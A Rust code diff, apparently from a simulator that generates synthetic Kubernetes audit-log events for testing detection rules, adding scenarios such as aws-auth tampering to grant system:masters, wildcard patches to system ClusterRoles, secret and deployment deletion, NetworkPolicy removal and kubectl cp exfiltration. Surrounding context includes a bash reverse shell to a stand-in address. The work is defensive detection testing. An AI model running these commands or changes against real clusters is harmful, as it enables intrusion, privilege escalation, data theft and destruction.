@@ -92,6 +92,35 @@ pub enum Scenario {
     /// service query. Rows 17 EXEC, 22 EXEC-SHELL, 23 EXEC-REVSHELL, 24 EXEC-DOWNLOAD,
     /// 25 EXEC-IMDS.
     ExecReverseShell,
+    /// `kubectl cp` out of a database pod: an exec of `tar cf -`. Rows 17 EXEC, 28
+    /// KUBECTL-CP.
+    KubectlCp,
+    /// Port-forward to a database pod and an attach, from the outside address. Rows 20
+    /// ATTACH, 21 PORTFWD.
+    PortForward,
+    /// Destruction: a Deployment and its Secrets deleted. Rows 48 DEPLOY-DEL, 72
+    /// SECRET-WRITE; Sigma deployment-deleted and secrets-modified-or-deleted.
+    DeploymentDeletion,
+    /// The EKS `aws-auth` ConfigMap patched to map an outside IAM role to
+    /// system:masters. Row 67 AWS-AUTH-CM.
+    AwsAuthTamper,
+    /// Twenty-five denied Secret reads in one namespace within minutes from a public IP.
+    /// Rows 4 DENY-BURST-IP, 5 DENY-ANY, 77 SECRET-DENIED.
+    SecretDenialBurst,
+    /// `admin` bound to the `default` service account of a namespace. Rows 51
+    /// BINDING-CHG, 52 BIND-SA, 54 DEFAULT-SA-ADMIN.
+    DefaultSaAdmin,
+    /// The Kubernetes dashboard exposed through a LoadBalancer Service. Row 80
+    /// EXPOSED-DASH.
+    ExposedDashboard,
+    /// A ConfigMap created with cloud credentials in its data. Row 78 CM-CREDS.
+    ConfigMapCredentials,
+    /// A built-in `system:` ClusterRole patched to grant everything. Rows 57
+    /// ROLE-WILDCARD-PATCH, 58 SYSROLE-MOD.
+    SystemRoleTamper,
+    /// A new namespace, and a NetworkPolicy deleted to open traffic. Rows 82 NS-CREATE,
+    /// 83 NETPOL-CHG.
+    NamespaceAndNetpol,
 }
 
 impl Scenario {
@@ -117,6 +146,16 @@ impl Scenario {
         Scenario::CorednsTamper,
         Scenario::CronJobBackdoor,
         Scenario::ExecReverseShell,
+        Scenario::KubectlCp,
+        Scenario::PortForward,
+        Scenario::DeploymentDeletion,
+        Scenario::AwsAuthTamper,
+        Scenario::SecretDenialBurst,
+        Scenario::DefaultSaAdmin,
+        Scenario::ExposedDashboard,
+        Scenario::ConfigMapCredentials,
+        Scenario::SystemRoleTamper,
+        Scenario::NamespaceAndNetpol,
     ];
 
     /// The kebab-case name used on the command line.
@@ -148,6 +187,16 @@ impl Scenario {
             Scenario::CorednsTamper => &[68],
             Scenario::CronJobBackdoor => &[45],
             Scenario::ExecReverseShell => &[17, 22, 23, 24, 25],
+            Scenario::KubectlCp => &[17, 28],
+            Scenario::PortForward => &[20, 21],
+            Scenario::DeploymentDeletion => &[48, 72],
+            Scenario::AwsAuthTamper => &[67],
+            Scenario::SecretDenialBurst => &[4, 5, 77],
+            Scenario::DefaultSaAdmin => &[51, 52, 54],
+            Scenario::ExposedDashboard => &[80],
+            Scenario::ConfigMapCredentials => &[78],
+            Scenario::SystemRoleTamper => &[57, 58],
+            Scenario::NamespaceAndNetpol => &[82, 83],
         }
     }
 }
@@ -173,6 +222,16 @@ const NAMES: &[&str] = &[
     "coredns-tamper",
     "cron-job-backdoor",
     "exec-reverse-shell",
+    "kubectl-cp",
+    "port-forward",
+    "deployment-deletion",
+    "aws-auth-tamper",
+    "secret-denial-burst",
+    "default-sa-admin",
+    "exposed-dashboard",
+    "config-map-credentials",
+    "system-role-tamper",
+    "namespace-and-netpol",
 ];
 
 /// The attacker's outside address (a Tor exit range) and tooling.
@@ -308,6 +367,16 @@ pub(crate) fn emit(sim: &mut Sim, cast: &Cast, s: Scenario, t0: i64) {
         Scenario::CorednsTamper => coredns(sim, cast, t0),
         Scenario::CronJobBackdoor => cronjob(sim, cast, t0),
         Scenario::ExecReverseShell => exec_revshell(sim, cast, t0),
+        Scenario::KubectlCp => kubectl_cp(sim, cast, t0),
+        Scenario::PortForward => port_forward(sim, cast, t0),
+        Scenario::DeploymentDeletion => deployment_deletion(sim, cast, t0),
+        Scenario::AwsAuthTamper => aws_auth(sim, cast, t0),
+        Scenario::SecretDenialBurst => secret_denials(sim, cast, t0),
+        Scenario::DefaultSaAdmin => default_sa_admin(sim, cast, t0),
+        Scenario::ExposedDashboard => exposed_dashboard(sim, cast, t0),
+        Scenario::ConfigMapCredentials => cm_credentials(sim, cast, t0),
+        Scenario::SystemRoleTamper => system_role(sim, cast, t0),
+        Scenario::NamespaceAndNetpol => namespace_netpol(sim, cast, t0),
     }
     sim.in_scenario = false;
 }
@@ -505,6 +574,19 @@ fn scheduler_actor(sim: &Sim) -> Actor {
     }
 }
 
+/// Go's `url.QueryEscape`, as kubectl encodes exec commands: unreserved characters
+/// stay, a space becomes `+`, everything else is percent-encoded.
+fn query_escape(s: &str) -> String {
+    const GO_QUERY: &percent_encoding::AsciiSet = &percent_encoding::NON_ALPHANUMERIC
+        .remove(b'-')
+        .remove(b'_')
+        .remove(b'.')
+        .remove(b'~');
+    percent_encoding::utf8_percent_encode(s, GO_QUERY)
+        .to_string()
+        .replace("%20", "+")
+}
+
 #[allow(clippy::too_many_arguments)]
 fn exec(
     sim: &mut Sim,
@@ -520,10 +602,7 @@ fn exec(
     let mut q = String::from("?");
     for part in cmd {
         q.push_str("command=");
-        q.push_str(
-            &percent_encoding::utf8_percent_encode(part, percent_encoding::NON_ALPHANUMERIC)
-                .to_string(),
-        );
+        q.push_str(&query_escape(part));
         q.push('&');
     }
     q.push_str(&format!(
@@ -1163,6 +1242,227 @@ fn exec_revshell(sim: &mut Sim, c: &Cast, t0: i64) {
         &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"],
         300,
     );
+}
+
+fn app(sim: &Sim, k: usize) -> (String, String, String, String) {
+    let apps = sim.cluster.apps();
+    let w = &apps[k % apps.len()];
+    let c = w.name.rsplit('-').next().unwrap_or("app").to_string();
+    (w.ns.clone(), w.name.clone(), w.pods[0].name.clone(), c)
+}
+
+fn kubectl_cp(sim: &mut Sim, c: &Cast, t0: i64) {
+    let (ns, _, pod, cont) = app(sim, 1);
+    exec(
+        sim,
+        &c.ci,
+        t0,
+        "create",
+        &ns,
+        &pod,
+        &cont,
+        &["tar", "cf", "-", "/var/lib/data"],
+        25,
+    );
+}
+
+fn port_forward(sim: &mut Sim, c: &Cast, t0: i64) {
+    let (ns, _, pod, cont) = app(sim, 2);
+    let mut r = sim.req(
+        t0,
+        &c.ci,
+        "create",
+        "pods",
+        &ns,
+        &pod,
+        "portforward",
+        "?ports=5432",
+    );
+    r.status.code = 101;
+    r.long_running = true;
+    r.latency = 420 * SEC;
+    sim.submit(r);
+    let q = format!("?container={cont}&stderr=true&stdin=true&stdout=true&tty=true");
+    let mut a = sim.req(
+        t0 + 30 * SEC,
+        &c.ci,
+        "create",
+        "pods",
+        &ns,
+        &pod,
+        "attach",
+        &q,
+    );
+    a.status.code = 101;
+    a.long_running = true;
+    a.latency = 60 * SEC;
+    sim.submit(a);
+}
+
+fn deployment_deletion(sim: &mut Sim, c: &Cast, t0: i64) {
+    let mut t = t0;
+    let wi = sim.cluster.first_app + (2 % sim.cluster.apps().len());
+    let w = &sim.cluster.workloads[wi];
+    let (ns, name, secrets) = (w.ns.clone(), w.name.clone(), w.secrets.clone());
+    let mut r = sim.req(t, &c.backdoor, "delete", "deployments", &ns, &name, "", "");
+    r.request_object = Some(
+        json!({"kind": "DeleteOptions", "apiVersion": "v1", "propagationPolicy": "Foreground"}),
+    );
+    r.response_object = Some(bodies::status_success("deployments", &name, "apps"));
+    sim.submit(r);
+    for s in secrets {
+        let tt = step(sim, &mut t, 3 * SEC);
+        let r = sim.req(tt, &c.backdoor, "delete", "secrets", &ns, &s, "", "");
+        sim.submit(r);
+    }
+}
+
+fn aws_auth(sim: &mut Sim, c: &Cast, t0: i64) {
+    let patch = json!({"data": {"mapRoles": "- rolearn: arn:aws:iam::123456789012:role/eks-node-role\n  username: system:node:{{EC2PrivateDNSName}}\n  groups:\n    - system:bootstrappers\n    - system:nodes\n- rolearn: arn:aws:iam::444455556666:role/ops-break-glass\n  username: ops-admin\n  groups:\n    - system:masters\n"}});
+    let mut r = sim.req(
+        t0,
+        &c.backdoor,
+        "patch",
+        "configmaps",
+        "kube-system",
+        "aws-auth",
+        "",
+        "?fieldManager=kubectl-patch",
+    );
+    r.request_object = Some(patch);
+    sim.submit(r);
+}
+
+fn secret_denials(sim: &mut Sim, c: &Cast, t0: i64) {
+    let mut t = t0;
+    let a = Actor {
+        ua: Rc::from("python-requests/2.31.0"),
+        ..c.ci.clone()
+    };
+    for k in 0..25 {
+        let tt = step(sim, &mut t, 8 * SEC);
+        let name = format!(
+            "{}-{}",
+            ["db", "api", "stripe", "vault", "backup"][k % 5],
+            ["credentials", "token", "keys", "password", "admin"][k / 5]
+        );
+        let mut r = sim.req(tt, &a, "get", "secrets", "kube-system", &name, "", "");
+        forbid(&mut r);
+        sim.submit(r);
+    }
+}
+
+fn default_sa_admin(sim: &mut Sim, c: &Cast, t0: i64) {
+    let (ns, _, _, _) = app(sim, 3);
+    let body = json!({"kind": "RoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "default-admin", "namespace": ns},
+        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"},
+        "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": ns}]});
+    let mut r = sim.req(
+        t0,
+        &c.ci,
+        "create",
+        "rolebindings",
+        &ns,
+        "default-admin",
+        "",
+        "?fieldManager=kubectl-create&fieldValidation=Strict",
+    );
+    r.request_object = Some(body.clone());
+    r.response_object = Some(body);
+    sim.submit(r);
+}
+
+fn exposed_dashboard(sim: &mut Sim, c: &Cast, t0: i64) {
+    let body = json!({"kind": "Service", "apiVersion": "v1", "metadata": {"name": "kubernetes-dashboard-lb", "namespace": "kubernetes-dashboard", "labels": {"k8s-app": "kubernetes-dashboard"}},
+        "spec": {"type": "LoadBalancer", "selector": {"k8s-app": "kubernetes-dashboard"}, "ports": [{"port": 443, "targetPort": 8443, "protocol": "TCP"}]}});
+    let mut r = sim.req(
+        t0,
+        &c.dev,
+        "create",
+        "services",
+        "kubernetes-dashboard",
+        "kubernetes-dashboard-lb",
+        "",
+        "?fieldManager=kubectl-expose",
+    );
+    r.request_object = Some(body.clone());
+    r.response_object = Some(body);
+    sim.submit(r);
+}
+
+fn cm_credentials(sim: &mut Sim, c: &Cast, t0: i64) {
+    let (ns, name, _, _) = app(sim, 4);
+    let cm = format!("{name}-env");
+    let body = json!({"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": cm, "namespace": ns},
+        "data": {"AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE", "aws_secret_access_key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "DB_PASSWORD": "hunter2-prod", "LOG_LEVEL": "debug"}});
+    let mut r = sim.req(
+        t0,
+        &c.dev,
+        "create",
+        "configmaps",
+        &ns,
+        &cm,
+        "",
+        "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
+    );
+    r.request_object = Some(body);
+    sim.submit(r);
+}
+
+fn system_role(sim: &mut Sim, c: &Cast, t0: i64) {
+    let patch = json!({"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]});
+    let resp = json!({"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1",
+        "metadata": {"name": "system:aggregate-to-edit", "labels": {"kubernetes.io/bootstrapping": "rbac-defaults", "rbac.authorization.k8s.io/aggregate-to-edit": "true"}},
+        "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]});
+    let mut r = sim.req(
+        t0,
+        &c.backdoor,
+        "patch",
+        "clusterroles",
+        "",
+        "system:aggregate-to-edit",
+        "",
+        "?fieldManager=kubectl-patch",
+    );
+    r.request_object = Some(patch);
+    r.response_object = Some(resp);
+    sim.submit(r);
+}
+
+fn namespace_netpol(sim: &mut Sim, c: &Cast, t0: i64) {
+    let body = json!({"kind": "Namespace", "apiVersion": "v1", "metadata": {"name": "kube-cache"}});
+    let mut r = sim.req(
+        t0,
+        &c.backdoor,
+        "create",
+        "namespaces",
+        "",
+        "kube-cache",
+        "",
+        "?fieldManager=kubectl-create&fieldValidation=Strict",
+    );
+    r.request_object = Some(body.clone());
+    r.response_object = Some(body);
+    sim.submit(r);
+    let (ns, _, _, _) = app(sim, 0);
+    let mut t = t0;
+    let tt = step(sim, &mut t, 30 * SEC);
+    let mut d = sim.req(
+        tt,
+        &c.backdoor,
+        "delete",
+        "networkpolicies",
+        &ns,
+        "default-deny-ingress",
+        "",
+        "",
+    );
+    d.response_object = Some(bodies::status_success(
+        "networkpolicies",
+        "default-deny-ingress",
+        "networking.k8s.io",
+    ));
+    sim.submit(d);
 }
 
 impl Sim {
